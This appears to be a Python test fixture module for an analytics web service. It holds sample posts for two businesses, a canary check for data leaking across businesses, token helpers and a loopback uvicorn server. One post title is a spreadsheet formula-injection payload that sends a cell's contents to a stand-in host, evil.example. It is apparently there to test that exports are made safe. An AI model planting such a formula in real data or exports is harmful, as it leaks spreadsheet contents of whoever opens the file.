"""A small warehouse whose numbers are worked out by hand, and a real uvicorn server on a free
loopback port, stopped by the test that started it.

Business ``alpha`` (UTC), as of 2026-11-30, ``days=7`` is 23–29 Nov 2026:

=====  =========  ==========  =====  =====  =====  ======  ========  ======  ==========
post   platform   published   views  reach  likes  shares  comments  clicks  engagement
=====  =========  ==========  =====  =====  =====  ======  ========  ======  ==========
a1     facebook   24 Nov      1000   800    40     5       5         100     50 (5 %)
a2     instagram  26 Nov      3000   2000   210    30      60        60      300 (10 %)
a3     x          28 Nov      1000   –      20     5       5         0       30 (3 %)
a0     facebook   16 Nov      2000   1000   80     10      10        0       100 (previous)
=====  =========  ==========  =====  =====  =====  ======  ========  ======  ==========

a0 opens the previous week (16–22 Nov), so alpha's data covers it whole: had the data started
later in that week, no change would be shown (``overview.previous_partial``).

So: 3 posts, 5,000 views, reach 2,800 (X has none), engagement 380, average engagement rate
7.6 %, CTR 3.2 %, growth (380 − 100) / 100 = 280 %, top platform instagram (78.9 % of the
engagement). a3's title is a formula. Business ``beta`` holds the canary: its name and its
post's title must never appear in an answer to a token for ``alpha``.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from analytics import access, warehouse
from conftest import post

AS_OF = "2026-11-30"
CANARY = "CANARY-beta-7f3e"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

BUSINESSES = [
    {"business_id": "alpha", "name": "Alpha Bakery", "timezone": "UTC", "recipients": ""},
    {"business_id": "beta", "name": f"Beta {CANARY}", "timezone": "Asia/Tokyo",
     "recipients": ""},
]
POSTS = [
    post("alpha", "facebook", "a1", "2026-11-24T10:00:00Z", views=1000, reach=800, likes=40,
         shares=5, comments=5, clicks=100, title="Morning bread"),
    post("alpha", "instagram", "a2", "2026-11-26T12:00:00Z", views=3000, reach=2000, likes=210,
         shares=30, comments=60, clicks=60, content_type="reel", title="Croissant reel"),
    post("alpha", "x", "a3", "2026-11-28T09:00:00Z", views=1000, likes=20, shares=5, comments=5,
         clicks=0, content_type="text", title=FORMULA_TITLE),
    post("alpha", "facebook", "a0", "2026-11-16T10:00:00Z", views=2000, reach=1000, likes=80,
         shares=10, comments=10, clicks=0, observed_on="2026-11-22", title="Last week"),
    post("beta", "instagram", "b1", "2026-11-25T03:00:00Z", views=5000, reach=4000, likes=400,
         shares=50, comments=50, clicks=10, title=f"Secret {CANARY} launch"),
]


def grant(db: Path, businesses: list[str], *, expires: timedelta | None = None,
          now: datetime | None = None, name: str = "test") -> str:
    """A token for ``businesses`` (the warehouse is opened and closed again)."""
    con = warehouse.connect(db)
    try:
        token, _ = access.grant(con, businesses, name, expires, now=now)
    finally:
        con.close()
    return token


def expired_token(db: Path) -> str:
    return grant(db, ["alpha"], expires=timedelta(hours=1),
                 now=datetime.now(UTC) - timedelta(days=1), name="expired")


def free_socket() -> socket.socket:
    # proto IPPROTO_TCP, as getaddrinfo gives: asyncio sets TCP_NODELAY on accepted
    # connections only then, and without it every response waits 40 ms for a delayed ACK
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(128)
    return sock


@contextlib.contextmanager
def running_server(db: Path, workdir: Path, **options) -> Iterator[str]:
    """``analytics serve``'s app under uvicorn in a thread, on 127.0.0.1 and a free port;
    yields its base URL and stops it (and its snapshot) on the way out."""
    import uvicorn

    from analytics.serve.app import create_app

    app = create_app(db, workdir=workdir, brands_dir=workdir / "no-brands", **options)
    sock = free_socket()
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", access_log=False))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "server did not start"
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=20)
        sock.close()
        assert not thread.is_alive(), "server did not stop"
